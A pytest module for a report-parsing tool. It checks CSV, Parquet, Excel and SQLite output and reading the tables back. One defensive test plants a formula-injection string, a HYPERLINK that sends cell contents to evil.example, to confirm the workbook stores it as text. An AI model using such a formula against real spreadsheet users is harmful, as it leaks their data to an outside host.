"""Output formats and reading them back (issue 20, items 1 and 2): ``--format`` with several
formats, the workbook, the SQLite database and Datasette's metadata, and ``read_tables``."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pandas as pd
import pytest

import reportparse
from reportparse.output.database import DATABASE, METADATA
from reportparse.output.folder import parse_formats, record_format
from reportparse.output.read import NotAnOutputFolderError
from reportparse.output.workbook import MAX_CELL, WORKBOOK, escape, unescape
from reportparse.pipeline import TABLES
from reportparse.tables import datapackage
from reportparse.tables.schema import ENTITIES, EVENTS
from tests.cli.test_cli import run

ROOT = Path(__file__).resolve().parents[2]
REPORTS = ROOT / "corpus" / "reports"
SAMPLE_TEXT = reportparse.sample_report_path().read_text(encoding="utf-8")
ALL = (*TABLES, ENTITIES, EVENTS)


@pytest.fixture(scope="module")
def corpus() -> reportparse.Corpus:
    return reportparse.parse_many(sorted(REPORTS.glob("*.txt"))[:3], jobs=0, progress=False)


@pytest.fixture(scope="module")
def written(tmp_path_factory) -> Path:
    """One CLI run writing every format: CSV (the record), Parquet beside it, the workbook, SQLite."""
    pytest.importorskip("pyarrow")
    folder = tmp_path_factory.mktemp("formats")
    inputs = sorted(REPORTS.glob("*.txt"))[:3]
    (folder / "in").mkdir()
    for path in inputs:
        (folder / "in" / path.name).write_bytes(path.read_bytes())
    (folder / "in" / "broken.pdf").write_bytes(b"not a PDF")
    result = run("parse", str(folder / "in"), "--out", str(folder / "out"), "--format", "csv,xlsx", "-f", "sqlite",
                 "--format", "parquet", "-j", "0", "-q")  # fmt: skip
    assert result.returncode == 3, result.stderr  # the broken PDF failed
    return folder / "out"


def test_round_trip_of_every_table_through_csv_and_parquet(corpus, tmp_path):
    pytest.importorskip("pyarrow")
    corpus.to_csv(tmp_path / "csv")
    corpus.to_parquet(tmp_path / "parquet")
    for folder in ("csv", "parquet"):
        tables = reportparse.read_tables(tmp_path / folder)
        assert list(tables) == [*TABLES, ENTITIES, EVENTS, "errors"]
        for name in ALL:
            pd.testing.assert_frame_equal(tables[name], getattr(corpus, name), obj=f"{folder}: {name}")
    items = reportparse.read_tables(tmp_path / "csv")["sections"]["item"]
    assert items.dtype == "string" and "1" in set(items.dropna()), "an item is text, never 1.0"


def test_whole_number_items_read_back_as_text(tmp_path):
    report = reportparse.parse(
        "Hesabat.\n\n1-ci bəndin icrasına dair:\n\n5 tədbir keçirilib.\n\n2-ci bənd üzrə: 7 iclas.\n"
    )
    report.to_csv(tmp_path)
    assert pd.read_csv(tmp_path / "sections.csv")["item"].dropna().tolist() == [1.0, 2.0], "what read_tables fixes"
    assert reportparse.read_tables(tmp_path)["sections"]["item"].dropna().tolist() == ["1", "2"]


def test_every_format_reads_back_the_same_tables(written):
    default = reportparse.read_tables(written)
    assert list(default) == [*TABLES, ENTITIES, EVENTS, "errors"] and len(default["errors"]) == 1
    for fmt in ("csv", "parquet", "xlsx", "sqlite"):
        tables = reportparse.read_tables(written, format=fmt)
        assert list(tables) == list(default), fmt
        for name, frame in default.items():
            pd.testing.assert_frame_equal(tables[name], frame, obj=f"{fmt}: {name}")
    assert datapackage.validate(written) == []
    descriptor = json.loads((written / "datapackage.json").read_text(encoding="utf-8"))
    assert {entry["format"] for entry in descriptor["resources"]} == {"csv"}, "the CSV files are the record"


def test_the_workbook_has_a_sheet_per_table_with_a_header_widths_and_dates(written):
    openpyxl = pytest.importorskip("openpyxl")
    sheets = pd.read_excel(written / WORKBOOK, sheet_name=None)
    assert list(sheets) == ["documents", *TABLES[1:], ENTITIES, EVENTS, "errors"]
    csv = pd.read_csv(written / "dates.csv", keep_default_na=False, dtype=str)
    assert list(sheets["dates"].columns) == list(csv.columns) and len(sheets["dates"]) == len(csv)
    assert pd.api.types.is_datetime64_any_dtype(sheets["dates"]["date_start"])
    assert sheets["counts"]["value"].sum() > 0
    book = openpyxl.load_workbook(written / WORKBOOK)
    dates = book["dates"]
    assert dates.freeze_panes == "A2" and dates["A1"].font.bold
    column = {cell.value: cell.column_letter for cell in dates[1]}
    assert dates.column_dimensions[column["text"]].width > dates.column_dimensions[column["kind"]].width
    cell = dates[f"{column['date_start']}2"]
    assert cell.is_date and cell.number_format == "yyyy-mm-dd"
    items = [cell for cell in next(dates.iter_cols(min_col=2, max_col=2, min_row=2)) if cell.value is not None]
    assert items and {cell.data_type for cell in items} == {"s"}, "an item is text in the workbook too"


def test_workbook_text_never_runs_as_a_formula_and_keeps_control_characters(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    report = reportparse.parse(SAMPLE_TEXT)
    tables = dict(report.tables)
    dates = tables["dates"].copy()
    dates.loc[0, "text"] = '=HYPERLINK("http://evil.example/?"&A1,"Bax")'
    dates.loc[1, "text"] = "a\x0bb _x0041_ \x00"
    dates.loc[2, "text"] = "x" * (MAX_CELL + 10)
    tables["dates"] = dates
    reportparse.Report(report.document, tables).to_csv(tmp_path)  # the record
    from reportparse.output.folder import write_output

    write_output(tmp_path, tables, formats=["csv", "xlsx"])
    cell = openpyxl.load_workbook(tmp_path / WORKBOOK)["dates"]["C2"]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")
    back = reportparse.read_tables(tmp_path, format="xlsx")["dates"]["text"]
    assert back.iloc[0] == dates.loc[0, "text"] and back.iloc[1] == dates.loc[1, "text"]
    assert len(back.iloc[2]) == MAX_CELL and back.iloc[2].endswith("…"), "Excel's cell limit"
    assert reportparse.read_tables(tmp_path)["dates"]["text"].iloc[2] == dates.loc[2, "text"], "the CSV keeps it whole"
    assert unescape(escape("_x005F_ \x1f")) == "_x005F_ \x1f"


def test_the_database_has_keys_indexes_and_sql_types(written):
    with sqlite3.connect(written / DATABASE) as connection:
        tables = [
            row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY rowid")
        ]
        assert tables == ["documents", *TABLES[1:], ENTITIES, EVENTS, "errors"]
        columns = {row[1]: row for row in connection.execute("PRAGMA table_info(documents)")}
        assert columns["doc_id"][5] == 1 and columns["year"][2] == "INTEGER" and columns["period_start"][2] == "TEXT"
        keys = {(row[2], row[3], row[4]) for row in connection.execute("PRAGMA foreign_key_list(organizations)")}
        assert keys == {("documents", "doc_id", "doc_id"), ("entities", "org_id", "org_id")}
        assert [row[2] for row in connection.execute("PRAGMA foreign_key_list(events)")] == ["documents"]
        assert connection.execute("PRAGMA foreign_key_check").fetchall() == []
        indexes = {row[1] for row in connection.execute("PRAGMA index_list(dates)")}
        assert {"dates_doc_id", "dates_item", "dates_kind", "dates_granularity", "dates_date_start"} <= indexes
        types = dict(connection.execute("SELECT typeof(value), count(*) FROM counts GROUP BY 1").fetchall())
        assert set(types) == {"real"}
        flags = {row[0] for row in connection.execute("SELECT DISTINCT year_inferred FROM dates")}
        assert flags <= {0, 1}
        n = connection.execute("SELECT count(*) FROM dates WHERE date_start BETWEEN '2019-01-01' AND '2024-12-31'")
        assert n.fetchone()[0] > 0, "ISO dates compare and sort as dates"
        missing = connection.execute("SELECT count(*) FROM sections WHERE item IS NULL").fetchone()[0]
        assert missing > 0 and connection.execute("SELECT count(*) FROM sections WHERE item = ''").fetchone()[0] == 0


def test_datasette_metadata_describes_the_tables_from_the_schema(written):
    metadata = json.loads((written / METADATA).read_text(encoding="utf-8"))
    tables = metadata["databases"]["tables"]["tables"]
    assert set(tables) == {"documents", *TABLES[1:], ENTITIES, EVENTS, "errors"}
    assert tables["dates"]["facets"] == ["granularity", "kind", "recurrence"]
    assert tables["organizations"]["facets"] == ["type", "source"] and tables["events"]["facets"][0] == "role"
    assert tables["dates"]["columns"]["kind"].startswith("point (a day)")
    assert tables["documents"]["label_column"] == "title" and tables["entities"]["label_column"] == "name"


def test_format_option_parsing_and_the_record_format():
    assert parse_formats(["csv,xlsx", "sqlite", "xlsx"]) == ("csv", "xlsx", "sqlite")
    assert record_format(("xlsx",)) == "csv" and record_format(("parquet", "sqlite")) == "parquet"
    assert record_format(("parquet", "csv")) == "csv"
    with pytest.raises(ValueError, match="unknown format 'xls'; choose from csv, parquet, xlsx, sqlite"):
        parse_formats("csv,xls")


def test_cli_formats_alone_and_their_errors(tmp_path):
    source = tmp_path / "a.txt"
    source.write_text(SAMPLE_TEXT, encoding="utf-8")
    assert run("parse", str(source), "--out", str(tmp_path / "x"), "--format", "xlsx", "-q").returncode == 0
    names = sorted(p.name for p in (tmp_path / "x").iterdir())
    assert names == sorted([f"{name}.csv" for name in ALL] + ["errors.csv", "datapackage.json", WORKBOOK])
    bad = run("parse", str(source), "--out", str(tmp_path / "y"), "--format", "csv,excel")
    assert bad.returncode == 2 and "--format: unknown format 'excel'" in bad.stderr and not (tmp_path / "y").exists()
    excel = run("parse", str(source), "--out", str(tmp_path / "z"), "--format", "parquet,xlsx", "--excel")
    assert excel.returncode == 2 and "--excel applies to CSV output only" in excel.stderr
    # --resume rewrites the workbook and the database from the record
    again = run("parse", str(source), "--out", str(tmp_path / "x"), "--format", "xlsx,sqlite", "--resume", "-q")
    assert again.returncode == 0 and (tmp_path / "x" / DATABASE).is_file()
    pd.testing.assert_frame_equal(
        reportparse.read_tables(tmp_path / "x", format="sqlite")["events"],
        reportparse.read_tables(tmp_path / "x")["events"],
    )


def test_read_tables_refuses_what_is_not_an_output_folder(tmp_path, corpus):
    with pytest.raises(NotAnOutputFolderError, match="no such folder"):
        reportparse.read_tables(tmp_path / "nowhere")
    with pytest.raises(NotAnOutputFolderError, match="not a reportparse output folder: it has no datapackage.json"):
        reportparse.read_tables(tmp_path)
    (tmp_path / "datapackage.json").write_text('{"name": "budget", "resources": []}', encoding="utf-8")
    with pytest.raises(NotAnOutputFolderError, match="describes another data package .name 'budget'"):
        reportparse.read_tables(tmp_path)
    (tmp_path / "datapackage.json").write_text("{not json", encoding="utf-8")
    with pytest.raises(NotAnOutputFolderError, match="not valid JSON"):
        reportparse.read_tables(tmp_path)
    corpus.to_csv(tmp_path / "out")
    with pytest.raises(NotAnOutputFolderError, match="cannot read the documents table: tables.xlsx is missing"):
        reportparse.read_tables(tmp_path / "out", format="xlsx")
    with pytest.raises(ValueError, match="unknown format 'xls'"):
        reportparse.read_tables(tmp_path / "out", format="xls")
    dates = pd.read_csv(tmp_path / "out" / "dates.csv", dtype=str, keep_default_na=False)
    dates.loc[0, "date_start"] = "15 mart"
    dates.to_csv(tmp_path / "out" / "dates.csv", index=False)
    with pytest.raises(NotAnOutputFolderError, match="cannot read the dates table: column date_start: '15 mart'"):
        reportparse.read_tables(tmp_path / "out")
    (tmp_path / "out" / "documents.csv").unlink()
    with pytest.raises(NotAnOutputFolderError, match="cannot read the documents table: documents.csv is missing"):
        reportparse.read_tables(tmp_path / "out")


def test_the_api_writes_the_same_formats(tmp_path):
    report = reportparse.parse(reportparse.sample_report_path())
    written = report.to_folder(tmp_path, formats=["xlsx", "sqlite"])
    assert {path.name for path in written} >= {WORKBOOK, DATABASE, METADATA, "events.csv", "datapackage.json"}
    pd.testing.assert_frame_equal(reportparse.read_tables(tmp_path, format="xlsx")["dates"], report.dates)
    with pytest.raises(ValueError, match="unknown format"):
        report.to_folder(tmp_path, formats=["pdf"])
